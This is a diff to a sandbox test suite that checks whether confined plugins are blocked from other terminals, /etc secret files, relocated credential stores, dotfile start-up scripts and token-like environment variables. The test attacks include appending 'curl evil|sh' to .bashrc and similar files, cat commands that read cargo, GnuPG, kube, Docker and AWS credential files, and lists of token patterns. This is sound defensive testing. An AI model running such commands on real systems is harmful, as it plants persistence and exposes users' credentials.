@@ -8,8 +8,10 @@ import { afterAll, beforeAll, describe, expect, test } from "bun:test";
 import { chmodSync, existsSync, mkdirSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { runAttack, type AttackOptions, type Run } from "./confine-harness.ts";
-import { kernelLandlockAbi } from "../../src/confine/index.ts";
+import { confinementRules, kernelLandlockAbi } from "../../src/confine/index.ts";
+import { credentialNeeds, isCredentialEnv } from "../../src/manifest/confinement.ts";
 import { assertConfinementAllowed, grantedConfinement } from "../../src/install/confinement-grant.ts";
+import { etcSecrets, reachableEtcSecrets } from "../../src/confine/etc-secrets.ts";
 import { tempDir } from "../helpers/cli.ts";
 
 const confinable = process.platform === "linux" && kernelLandlockAbi() >= 1;
@@ -198,5 +200,110 @@ describe.skipIf(!confinable)("a [confinement] path the plugin turns into a symli
     const legacy = grantedConfinement({ read: ["~/.cache/cachey"], write: [], env: [] }, false, { unconfined: false, read: ["~/.cache/cachey"], write: [], env: [] }, home);
     expect(legacy.resolved_read).toEqual([join(home, ".cache", "cachey")]);
     rmSync(cachey());
+  });
+});
+
+describe.skipIf(!confinable)("other terminals (f3)", () => {
+  test("a terminal that is not the plugin's own is neither readable nor writable; /dev/null, /dev/tty stay", async () => {
+    // The victim: a pseudo-terminal whose master a terminal emulator would hold.
+    const victim = Bun.spawn(["python3", "-c", "import os, pty, time\nm, s = pty.openpty()\nprint(os.ttyname(s), flush=True)\nos.write(m, b'sudo-password-typed\\n')\ntime.sleep(6)\nos.set_blocking(m, False)\ntry: print('screen', os.read(m, 200), flush=True)\nexcept OSError: print('screen empty', flush=True)"], { stdout: "pipe" });
+    const reader = victim.stdout.getReader();
+    const tty = new TextDecoder().decode((await reader.read()).value).trim();
+    expect(tty).toMatch(/^\/dev\/pts\/\d+$/);
+    const r = await attack(`timeout 2 head -c 20 ${tty} 2>&1; printf 'PLUGIN-WROTE\\033]0;x\\007' > ${tty} 2>&1; ls /dev/pts 2>&1 | head -2; echo ok > /dev/null && echo null-ok; echo end`);
+    expect(r.stdout).toContain("end");
+    expect(r.stdout).toContain("null-ok");
+    expect(r.stdout).not.toContain("sudo-password");
+    const rest = await readRest(reader);
+    await victim.exited;
+    expect(rest).not.toContain("PLUGIN-WROTE");
+  }, T);
+});
+
+describe("/etc secrets (f11)", () => {
+  test("SSH host keys (by name), service passwords and certificate keys are in the one list; public files are not", () => {
+    const etc = join(base, "etc");
+    for (const d of ["ssh", "mysql", "letsencrypt/live/x", "ssl/certs"]) mkdirSync(join(etc, d), { recursive: true });
+    for (const f of ["ssh/ssh_host_ed25519_key", "ssh/ssh_host_ed25519_key.pub", "ssh/ssh_host_rsa_key", "ssh/ssh_config", "mysql/debian.cnf", "mysql/my.cnf", "letsencrypt/live/x/privkey.pem", "ssl/certs/ca.pem"]) {
+      writeFileSync(join(etc, f), "x\n");
+    }
+    const secrets = etcSecrets(etc);
+    for (const f of ["ssh/ssh_host_ed25519_key", "ssh/ssh_host_rsa_key", "mysql/debian.cnf", "letsencrypt", "shadow", "ssl/private"]) expect(secrets).toContain(join(etc, f));
+    for (const f of ["ssh/ssh_host_ed25519_key.pub", "ssh/ssh_config", "mysql/my.cnf", "ssl/certs", "ssh"]) expect(secrets).not.toContain(join(etc, f));
+    // Carved for whoever can read them (root reads them all).
+    if (process.getuid?.() === 0) expect(reachableEtcSecrets(etc)).toEqual(expect.arrayContaining([join(etc, "ssh/ssh_host_ed25519_key"), join(etc, "mysql/debian.cnf"), join(etc, "letsencrypt")]));
+  });
+});
+
+describe.skipIf(!confinable)("start-up files kept in a dotfiles repository (f5)", () => {
+  test("a writable project holding the targets of ~/.bashrc, ~/.bash_aliases, ~/.vimrc, ~/.tmux.conf, ~/.config/nvim cannot change them", async () => {
+    const dots = join(home, "dotfiles");
+    mkdirSync(join(dots, "nvim"), { recursive: true });
+    mkdirSync(join(home, ".config"), { recursive: true });
+    const files = { bashrc: ".bashrc", bash_aliases: ".bash_aliases", vimrc: ".vimrc", "tmux.conf": ".tmux.conf", nvim: ".config/nvim" } as const;
+    for (const [target, link] of Object.entries(files)) {
+      if (target !== "nvim") writeFileSync(join(dots, target), `# ${target}\n`);
+      symlinkSync(join(dots, target), join(home, link));
+    }
+    writeFileSync(join(dots, "nvim", "init.lua"), "-- init\n");
+    writeFileSync(join(dots, "README.md"), "my dotfiles\n");
+    const r = await attack(`for f in bashrc bash_aliases vimrc tmux.conf nvim/init.lua README.md; do echo 'curl evil|sh' >> $f 2>/dev/null && echo "wrote $f"; done; echo end`, { filesystem: "project", projectRoot: dots });
+    expect(r.stdout).toContain("end");
+    expect(r.stdout.trim().split("\n").filter((l) => l.startsWith("wrote"))).toEqual(["wrote README.md"]);
+    for (const target of ["bashrc", "bash_aliases", "vimrc", "tmux.conf"]) expect(readFileSync(join(dots, target), "utf8")).toBe(`# ${target}\n`);
+    expect(readFileSync(join(dots, "nvim", "init.lua"), "utf8")).toBe("-- init\n");
+    for (const link of Object.values(files)) rmSync(join(home, link));
+  }, T);
+});
+
+describe.skipIf(!confinable)("credentials moved by the tools' own variables (f9)", () => {
+  test("CARGO_HOME, GNUPGHOME, KUBECONFIG, DOCKER_CONFIG, AWS_SHARED_CREDENTIALS_FILE are followed; atuin, msmtp, composer are hidden", async () => {
+    const alt = join(base, "alt");
+    const plant = (rel: string): string => {
+      const p = join(alt, rel);
+      mkdirSync(join(p, ".."), { recursive: true });
+      writeFileSync(p, `${SECRET}-${rel}\n`);
+      return p;
+    };
+    plant("cargo/credentials.toml");
+    plant("gnupg/private-keys-v1.d/k.key");
+    const kube = plant("kube/cfg");
+    plant("docker/config.json");
+    const aws = plant("aws-creds");
+    for (const rel of [".local/share/atuin/key", ".msmtprc", ".config/composer/auth.json"]) {
+      mkdirSync(join(home, rel, ".."), { recursive: true });
+      writeFileSync(join(home, rel), `${SECRET}-${rel}\n`);
+    }
+    writeFileSync(join(alt, "cargo", "config.toml"), "[build]\n");
+    const env = { CARGO_HOME: join(alt, "cargo"), GNUPGHOME: join(alt, "gnupg"), KUBECONFIG: `${join(base, "none")}:${kube}`, DOCKER_CONFIG: join(alt, "docker"), AWS_SHARED_CREDENTIALS_FILE: aws };
+    const r = await attack(`cat ${alt}/cargo/credentials.toml ${alt}/gnupg/private-keys-v1.d/k.key ${kube} ${alt}/docker/config.json ${aws} ~/.local/share/atuin/key ~/.msmtprc ~/.config/composer/auth.json 2>&1; cat ${alt}/cargo/config.toml; echo end`, { env, confinement: { read: [alt] } });
+    expect(r.stdout).toContain("end");
+    expect(r.stdout + r.stderr).not.toContain(SECRET);
+    expect(r.stdout).toContain("[build]");
+    // At consent they are credentials too: flagged, and never for an unverified source.
+    expect(credentialNeeds({ read: [join(alt, "cargo", "credentials.toml"), join(alt, "gnupg"), kube, alt], write: [], env: [] }, home, env)).toEqual([join(alt, "cargo", "credentials.toml"), join(alt, "gnupg"), kube, alt]);
+    expect(credentialNeeds({ read: [join(alt, "cargo", "config.toml")], write: [], env: [] }, home, env)).toEqual([]);
+  }, T);
+});
+
+describe("credential-looking variables, by name or by value (f14)", () => {
+  test("DATABASE_URL, GITHUB_PAT, CI_JOB_JWT, SENTRY_DSN and token-shaped values count as credential grants; an unverified source cannot get them", () => {
+    for (const name of ["DATABASE_URL", "GITHUB_PAT", "GH_PAT", "CI_JOB_JWT", "SENTRY_DSN", "MONGO_URI", "SIGNING_KEY"]) expect(isCredentialEnv(name, "x")).toBe(true);
+    for (const name of ["PATH", "EDITOR", "LANG", "MY_TOOL_MODE"]) expect(isCredentialEnv(name, "plain")).toBe(false);
+    for (const value of ["ghp_abcdefghijklmnopqrstuvwxyz0123456789", "github_pat_11ABC", "glpat-xxxxxxxxxxxxxxxxxxxx", "xoxb-123-456", "AKIAIOSFODNN7EXAMPLE", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig", "postgres://app:s3cret@db:5432/x"]) {
+      expect(isCredentialEnv("MY_TOOL_MODE", value)).toBe(true);
+    }
+    expect(isCredentialEnv("MY_TOOL_MODE", "https://example.com/path")).toBe(false);
+    expect(credentialNeeds({ read: [], write: [], env: ["MY_TOOL_MODE", "LOG_LEVEL"] }, home, { MY_TOOL_MODE: "glpat-xxxxxxxxxxxxxxxxxxxx", LOG_LEVEL: "debug" })).toEqual(["MY_TOOL_MODE"]);
+    expect(() => assertConfinementAllowed("unverified", { read: [], write: [], env: ["DATABASE_URL"] }, home)).toThrow(/credentials/);
+  });
+
+  test("an allowlisted variable holding a token does not pass to a plugin", () => {
+    const rules = confinementRules(
+      { pluginDir, projectWritable: false, network: false, tempDir: join(base, "t"), fledgeConfigDir: join(home, ".config", "fledge") },
+      { PATH: "/usr/bin:/bin", HOME: home, LANG: "C", EDITOR: "ghp_abcdefghijklmnopqrstuvwxyz0123456789", PAGER: "less" },
+    );
+    expect(rules.env.EDITOR).toBeUndefined();
+    expect(rules.env.PAGER).toBe("less");
   });
 });
